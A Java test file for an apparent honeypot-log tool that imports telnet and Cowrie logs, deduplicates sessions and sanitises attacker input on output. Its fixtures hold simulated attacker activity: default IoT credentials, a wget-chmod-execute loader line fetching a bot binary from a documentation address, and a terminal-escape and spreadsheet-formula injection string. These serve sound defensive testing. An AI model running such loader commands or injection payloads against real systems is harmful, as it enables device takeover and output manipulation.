package teiten.cli;

import static org.assertj.core.api.Assertions.assertThat;

import static java.time.DayOfWeek.MONDAY;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import teiten.store.Readings;
import teiten.store.Scope;
import teiten.store.SessionFilter;
import teiten.store.SessionReadings.CpuWeek;
import teiten.store.Store;

import tools.jackson.databind.JsonNode;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.InstantSource;
import java.time.LocalDate;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.temporal.TemporalAdjusters;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.zip.GZIPOutputStream;

/// Logs go into the store once, whatever happens to them and to the process that reads them.
class SessionImportTest {
    private static final String TELNET =
            """
            2017-03-31 00:02:20,393 - __main__ - INFO - Opened connection to 192.0.2.1:42486
            2017-03-31 00:02:20,542 - __main__ - INFO - RECEIVED INPUT 192.0.2.1 : ['admin']
            2017-03-31 00:02:20,792 - __main__ - INFO - RECEIVED INPUT 192.0.2.1 : ['123']
            2017-03-31 00:02:20,792 - __main__ - INFO - 192.0.2.1:42486 logged in as admin-123
            2017-03-31 00:02:21,191 - __main__ - INFO - RECEIVED INPUT 192.0.2.1 : ['enable']
            2017-03-31 00:02:21,391 - __main__ - INFO - RECEIVED INPUT 192.0.2.1 : ['/bin/busybox ECCHI']
            2017-03-31 00:02:22,191 - __main__ - INFO - Opened connection to 192.0.2.2:1000
            2017-03-31 00:02:23,191 - __main__ - INFO - RECEIVED INPUT 192.0.2.2 : ['root']
            2017-03-31 00:02:24,191 - __main__ - INFO - RECEIVED INPUT 192.0.2.2 : ['xc3511']
            2017-03-31 00:02:24,292 - __main__ - INFO - 192.0.2.2:1000 logged in as root-xc3511
            2017-03-31 00:02:25,191 - __main__ - INFO - RECEIVED INPUT 192.0.2.2 : ['cd /tmp; wget http://203.0.113.5/x.arm7; chmod 777 x.arm7; ./x.arm7']
            2017-03-31 00:02:26,191 - __main__ - INFO - Lost connection to 192.0.2.1:42486
            2017-03-31 00:02:27,191 - __main__ - INFO - Lost connection to 192.0.2.2:1000
            """;

    @TempDir private Path folder = Path.of("");

    private Cli teiten(Path data, Object... words) {
        List<Object> all = new ArrayList<>(Arrays.asList(words));
        all.add("--data");
        all.add(data);
        return Cli.run(all.toArray());
    }

    /// Everything that scripts can ask for, as one text.
    private String answers(Path data) {
        Cli sessions = teiten(data, "top", "sessions", "--limit", 0, "--json");
        Cli credentials = teiten(data, "top", "credentials", "--limit", 0, "--json", "--reveal");
        assertThat(sessions.status()).as(sessions.err()).isZero();
        StringBuilder all = new StringBuilder(sessions.out()).append(credentials.out());
        for (JsonNode row : sessions.json()) {
            all.append(
                    teiten(
                                    data,
                                    "show",
                                    "session",
                                    row.get("session").asString(),
                                    "--sensor",
                                    row.get("sensor").asString(),
                                    "--json")
                            .out());
        }
        return all.toString();
    }

    @Test
    void a_log_read_twice_renamed_or_packed_changes_nothing_and_says_so() throws IOException {
        Path log = Files.writeString(folder.resolve("day.log"), TELNET);
        Path data = folder.resolve("data");
        Cli first = teiten(data, "import", log);
        assertThat(first.status()).isZero();
        assertThat(first.err()).contains("2 new sessions");
        String before = answers(data);
        Path packed = folder.resolve("other-name.gz");
        try (GZIPOutputStream gzip = new GZIPOutputStream(Files.newOutputStream(packed))) {
            gzip.write(TELNET.getBytes(StandardCharsets.UTF_8));
        }

        for (Path again : List.of(log, packed)) {
            Cli second = teiten(data, "import", again);
            assertThat(second.status()).isZero();
            assertThat(second.err()).contains("nothing new, all its 13 lines are stored already");
        }

        assertThat(answers(data)).isEqualTo(before);
        JsonNode told = teiten(data, "import", "--json", log).json().path("files").path(0);
        assertThat(told.path("lines").asLong()).isEqualTo(13);
        assertThat(told.path("new_sessions").asLong()).isZero();
        assertThat(
                        told.path("accepted").asLong()
                                + told.path("passed_over").asLong()
                                + told.path("blank").asLong()
                                + told.path("bad").asLong())
                .isEqualTo(13);
    }

    @Test
    void a_session_counts_in_the_week_of_the_monday_before_it() throws IOException {
        // given sessions at four hours of each day of two weeks
        Path data = folder.resolve("data");
        Map<ZoneId, Map<LocalDate, Long>> weeks = new HashMap<>();
        List<ZoneId> zones = List.of(ZoneOffset.UTC, ZoneId.of("Asia/Tokyo"));
        for (int day = 0; day < 14; day++) {
            LocalDate date = LocalDate.of(2017, 3, 25).plusDays(day);
            for (String hour : List.of("00", "14", "15", "23")) {
                Path log = folder.resolve(date + "-" + hour + ".log");
                Files.writeString(
                        log,
                        TELNET.replace("2017-03-31", date.toString())
                                .replace(" 00:", " " + hour + ":"));
                assertThat(teiten(data, "import", "--quiet", log).status()).isZero();
                Instant began = Instant.parse(date + "T" + hour + ":02:22Z");
                for (ZoneId zone : zones) {
                    weeks.computeIfAbsent(zone, _ -> new TreeMap<>())
                            .merge(
                                    began.atZone(zone)
                                            .toLocalDate()
                                            .with(TemporalAdjusters.previousOrSame(MONDAY)),
                                    1L,
                                    Long::sum);
                }
            }
        }

        // then each zone's weeks begin on its Mondays
        Instant end = Instant.parse("2018-01-01T00:00:00Z");
        SessionFilter all = SessionFilter.of(new Scope(Instant.EPOCH, end, Set.of()));
        try (Store store = Store.open(data, "test", 128 << 20, InstantSource.system())) {
            for (ZoneId zone : zones) {
                Map<LocalDate, Long> found = new TreeMap<>();
                for (CpuWeek week : new Readings(store).sessions().cpus(all, zone)) {
                    assertThat(week.cpu()).isEqualTo("armv7");
                    found.put(week.week(), week.sessions());
                }
                assertThat(found).isEqualTo(weeks.get(zone)).hasSize(3);
            }
        }
    }

    @Test
    void a_log_that_grew_by_any_number_of_bytes_ends_as_if_it_had_been_read_whole()
            throws IOException {
        Path log = folder.resolve("day.log");
        Path whole = folder.resolve("whole");
        Files.writeString(log, TELNET);
        assertThat(teiten(whole, "import", log).status()).isZero();
        String expected = answers(whole);
        byte[] bytes = TELNET.getBytes(StandardCharsets.UTF_8);
        SplittableRandom random = new SplittableRandom(4);

        for (int round = 0; round < 6; round++) {
            Path data = folder.resolve("grown-" + round);
            int length = 100;
            while (length < bytes.length) {
                Files.write(log, Arrays.copyOf(bytes, length));
                Cli part = teiten(data, "import", log);
                assertThat(part.status()).as(part.err()).isIn(Main.DONE, Main.DAMAGE);
                length += 1 + random.nextInt(600);
            }
            Files.write(log, bytes);
            assertThat(teiten(data, "import", log).status()).isZero();
            assertThat(answers(data)).isEqualTo(expected);
        }
    }

    @Test
    void a_session_that_two_files_tell_of_is_one() throws IOException {
        String begin = cowrie(1, 40);
        int middle = begin.indexOf('\n', begin.length() / 2) + 1;
        Path one = Files.writeString(folder.resolve("cowrie.json.1"), begin.substring(0, middle));
        Path two = Files.writeString(folder.resolve("cowrie.json.2"), begin.substring(middle));
        Path data = folder.resolve("data");

        assertThat(teiten(data, "import", one, two).status()).isZero();

        JsonNode rows = teiten(data, "top", "sessions", "--limit", 0, "--json").json();
        assertThat(rows).hasSize(40);
        rows.forEach(row -> {
            assertThat(row.get("commands").asInt()).isEqualTo(2);
            assertThat(row.get("urls").get(0).asString()).endsWith("/bot.mips");
            assertThat(row.get("cpus").get(0).asString()).isEqualTo("mips");
        });
        assertThat(teiten(data, "import", two, one).err()).contains("nothing new");
    }

    @Test
    void imports_killed_at_any_moment_lose_nothing_and_count_nothing_twice()
            throws IOException, InterruptedException {
        Path log = Files.writeString(folder.resolve("cowrie.json"), cowrie(2, 4_000));
        Path whole = folder.resolve("whole");
        long begin = System.nanoTime();
        assertThat(start(whole, log).waitFor()).isZero();
        long uninterrupted = (System.nanoTime() - begin) / 1_000_000;
        String expected = lists(whole);
        SplittableRandom random = new SplittableRandom(9);

        Path data = folder.resolve("killed");
        int killed = 0;
        for (int round = 0; killed < 5 && round < 50; round++) {
            begin = System.nanoTime();
            Process run = start(data, log);
            long moment = uninterrupted / 3 + random.nextLong(uninterrupted * 2 / 3);
            if (run.waitFor(moment, TimeUnit.MILLISECONDS)) {
                // Ended by itself, so imports take less than was thought; begin anew.
                assertThat(lists(data)).isEqualTo(expected);
                uninterrupted = Math.min(uninterrupted, (System.nanoTime() - begin) / 1_000_000);
                data = folder.resolve("killed-" + round);
            } else {
                run.destroyForcibly().waitFor();
                killed++;
                assertThat(teiten(data, "top", "sessions", "--json").status()).isZero();
            }
        }

        assertThat(killed).isEqualTo(5);
        assertThat(start(data, log).waitFor()).isZero();
        assertThat(lists(data)).isEqualTo(expected);
        assertThat(teiten(data, "import", log).err()).contains("nothing new");
    }

    private String lists(Path data) {
        return teiten(data, "top", "sessions", "--limit", 0, "--json").out()
                + teiten(data, "top", "credentials", "--limit", 0, "--json", "--reveal").out();
    }

    private static Process start(Path data, Path log) throws IOException {
        return new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "--enable-native-access=ALL-UNNAMED",
                        "-XX:+UseSerialGC",
                        "-XX:TieredStopAtLevel=1",
                        "-cp",
                        System.getProperty("java.class.path"),
                        "teiten.cli.Main",
                        "import",
                        "--quiet",
                        "--data",
                        data.toString(),
                        log.toString())
                .redirectErrorStream(true)
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .start();
    }

    /// A Cowrie log of loaders, made up: documentation addresses, nothing that anybody published.
    private static String cowrie(long seed, int sessions) {
        SplittableRandom random = new SplittableRandom(seed);
        StringBuilder out = new StringBuilder();
        Instant at = Instant.parse("2026-01-01T00:00:00Z");
        for (int i = 0; i < sessions; i++) {
            String id = String.format("%012x", random.nextLong() & 0xFFFFFFFFFFFFL);
            String source = "198.51.100." + random.nextInt(1, 255);
            String[] rest = {
                "\"eventid\":\"cowrie.session.connect\",\"protocol\":\"telnet\",\"src_port\":40000,\"dst_port\":23,\"dst_ip\":\"192.0.2.9\"",
                "\"eventid\":\"cowrie.login.success\",\"username\":\"root\",\"password\":\"pw"
                        + random.nextInt(50)
                        + "\"",
                "\"eventid\":\"cowrie.command.input\",\"input\":\"/bin/busybox ECCHI\"",
                "\"eventid\":\"cowrie.command.input\",\"input\":\"wget"
                        + " http://203.0.113.8/bot.mips\"",
                "\"eventid\":\"cowrie.session.closed\",\"duration\":3"
            };
            for (String fields : rest) {
                at = at.plusMillis(500);
                out.append("{")
                        .append(fields)
                        .append(",\"session\":\"")
                        .append(id)
                        .append("\",\"src_ip\":\"")
                        .append(source)
                        .append("\",\"sensor\":\"made-up\",\"timestamp\":\"")
                        .append(at)
                        .append("\"}\n");
            }
        }
        return out.toString();
    }

    @Test
    void what_an_attacker_typed_reaches_no_terminal_alive() throws IOException {
        String evil = "\\u001b]0;owned\\u0007\\u001b[2J\\u009b\\u202e\\u0000=cmd()";
        String log =
                cowrie(3, 1)
                        .replace("/bin/busybox ECCHI", evil + " wget http://203.0.113.9/" + evil)
                        .replaceFirst(
                                "\"password\":\"[^\"]*\"",
                                "\"password\":\"=" + evil.replace("\\", "\\\\") + "\"");
        Path file = Files.writeString(folder.resolve("cowrie.json"), log);
        Path data = folder.resolve("data");
        assertThat(teiten(data, "import", file).status()).isZero();
        String id =
                teiten(data, "top", "sessions", "--json").json().path(0).path("session").asString();

        for (Cli shown :
                List.of(
                        teiten(data, "top", "sessions"),
                        teiten(data, "top", "credentials", "--reveal"),
                        teiten(data, "show", "session", id),
                        teiten(data, "replay", id, "--speed", 0),
                        teiten(data, "replay", id, "--asciicast", "-"),
                        teiten(data, "show", "session", id, "--json"),
                        teiten(data, "top", "sessions", "--csv"),
                        teiten(data, "top", "credentials", "--csv", "--reveal"))) {
            assertThat(shown.status()).as(shown.err()).isZero();
            assertThat(shown.out())
                    .doesNotContain("\u001b", "\u0007", "\u0000", "\u009b", "\u202e");
            assertThat(shown.out()).doesNotContain(",=cmd", "\n=");
        }
        assertThat(teiten(data, "top", "credentials", "--csv", "--reveal").out())
                .contains("root,'=");
        assertThat(teiten(data, "top", "credentials").out()).doesNotContain("owned");
    }

    @Test
    void mistakes_are_told_in_one_sentence() throws IOException {
        Path data = folder.resolve("data");
        Path text = Files.writeString(folder.resolve("notes.txt"), "hello\nworld\n");

        assertThat(teiten(data, "import", "--format", "cowrie", text).err())
                .contains("holds no line of the format cowrie");
        assertThat(teiten(data, "import", "--format", "kippo", text).status())
                .isEqualTo(Main.MISTAKE);
        assertThat(teiten(data, "import", "--format", "cowrie", "-").err())
                .contains("cannot come from standard input");
        assertThat(teiten(data, "show", "session", "no/id").status()).isEqualTo(Main.MISTAKE);
        assertThat(teiten(data, "show", "session", "nobody").err()).contains("there is no session");
        assertThat(teiten(data, "replay", "nobody").err()).contains("there is no session");
        assertThat(teiten(data, "top", "sessions").out()).contains("No session was read yet");
        assertThat(teiten(data, "top", "sessions", "--json").json()).isEmpty();
    }

    @Test
    void the_process_that_serves_the_directory_does_the_same_for_other_terminals()
            throws IOException, InterruptedException {
        Path data = folder.resolve("data");
        Path log = Files.writeString(folder.resolve("day.log"), TELNET);
        Process serving =
                new ProcessBuilder(
                                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                                "--enable-native-access=ALL-UNNAMED",
                                "-XX:+UseSerialGC",
                                "-XX:TieredStopAtLevel=1",
                                "-cp",
                                System.getProperty("java.class.path"),
                                "teiten.cli.Main",
                                "serve",
                                "--port",
                                "0",
                                "--data",
                                data.toString())
                        .redirectErrorStream(true)
                        .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                        .start();
        try {
            for (int i = 0; i < 300 && !Files.exists(data.resolve("control.sock")); i++) {
                Thread.sleep(100);
            }
            assertThat(teiten(data, "import", log).err()).contains("2 new sessions");
            JsonNode rows = teiten(data, "top", "sessions", "--json").json();
            assertThat(rows).hasSize(2);
            String id = rows.path(0).path("session").asString();
            assertThat(teiten(data, "show", "session", id, "--json").json().path("transcript"))
                    .isNotEmpty();
            assertThat(teiten(data, "replay", id, "--speed", 0).out()).contains("wget http");
            Path cast = folder.resolve("out.cast");
            assertThat(teiten(data, "replay", id, "--asciicast", cast).status()).isZero();
            assertThat(Files.readString(cast)).startsWith("{\"version\":2,");
            assertThat(teiten(data, "top", "credentials").out()).contains("r•••");
        } finally {
            serving.destroy();
            serving.waitFor(10, TimeUnit.SECONDS);
            serving.destroyForcibly();
        }
    }
}
